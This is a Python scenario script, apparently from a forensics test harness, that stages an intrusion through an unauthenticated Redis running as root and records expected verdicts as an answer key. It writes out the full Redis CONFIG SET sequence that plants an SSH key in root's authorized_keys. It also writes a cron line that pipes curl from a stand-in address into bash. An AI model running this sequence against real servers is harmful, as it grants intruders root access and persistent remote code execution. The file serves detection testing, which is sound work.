"""A Redis that anybody can reach, run as root: told to keep its data among root's keys, it lets in who holds the key."""

from scenarios import guessing, normal
from stage import redis, ssh
from stage.clock import now
from stage.network import ATTACKERS

LOG_FORMAT = "rfc3339"
ROLES = ("redis",)
INTRUDER = ATTACKERS[3]
KEYS = "/root/.ssh/authorized_keys"
CRON_PATH = "/etc/cron.d/php-session"
# Nothing has this address, so nothing is ever fetched.
CRON_LINE = "* * * * * root curl -fsSL -m 5 http://203.0.113.66/r.sh | bash >/dev/null 2>&1"


def play(host, network, facts) -> None:
    facts.notes.update(verdict_expected="intrusion", accused=["root"], account="root", attacker_address=INTRUDER,
                       attacker_addresses=[INTRUDER, ATTACKERS[1]], intruder_log_ins=[], entry_vector="open_redis",
                       verdict={"intrusion": "confirmed", "mail_abuse": "none_found", "ways": []})
    facts.stood("opened", "/etc/redis/redis.conf")
    normal.round_of_work(host, facts)
    guessing.spray(host, facts, [ATTACKERS[1]], guessing.NAMES[:8], rounds=1, width=4)
    host.rotate_logs(everything=True)
    normal.round_of_work(host, facts, typos=1)
    redis.say(normal.OPS, ("SET", "articles:1", "Opening hours"), ("GET", "articles:1"))
    host.rotate_logs(everything=False)
    key = ssh.make_key(host.work, "intruder", "crackit@localhost")
    _write_key(host, facts, key)
    _enter(facts, key)
    host.wait_for("/var/log/cron.log", r"\(root\) CMD \(curl")
    facts.notes["cron"]["fired"] = True
    normal.round_of_work(host, facts)


def _write_key(host, facts, key: ssh.Key) -> None:
    before = redis.say(INTRUDER, ("INFO", "server"), ("CONFIG", "GET", "dir"))
    if "redis_version" not in before[0]:
        raise RuntimeError(f"the Redis is not open: {before}")
    facts.step("key", path=KEYS, fingerprint=key.fingerprint)
    said = redis.say(INTRUDER, ("FLUSHALL",), ("SET", "crackit", f"\n\n\n{key.public}\n\n\n"), ("CONFIG", "SET", "rdbcompression", "no"),
                     ("CONFIG", "SET", "dir", "/root/.ssh"), ("CONFIG", "SET", "dbfilename", "authorized_keys"), ("SAVE",),
                     ("CONFIG", "SET", "dbfilename", "dump.rdb"), ("CONFIG", "SET", "dir", "/var/lib/redis"))
    if set(said) != {"+OK"}:
        raise RuntimeError(f"Redis did not do it: {said}")
    facts.notes["key"] = {"path": KEYS, "fingerprint": key.fingerprint, "line": key.public, "added_at": now()}


def _enter(facts, key: ssh.Key) -> None:
    """By the key, and at once something that starts again."""
    facts.step("key_used", account="root", address=INTRUDER)
    commands = ["w", "id", f"echo '{CRON_LINE}' > {CRON_PATH}", "exit"]
    done = ssh.with_key(INTRUDER, "root", key, stdin="\n".join(commands) + "\n", terminal=True)
    if not done.opened:
        raise RuntimeError(f"the intruder was kept out: {done}")
    facts.notes["login_at"], facts.notes["method"] = now(), "publickey"
    facts.notes["intruder_log_ins"].append({"method": "publickey", "account": "root", "address": INTRUDER, "at": now()})
    facts.step("cron", path=CRON_PATH)
    facts.notes["cron"] = {"path": CRON_PATH, "line": CRON_LINE, "added_at": now()}
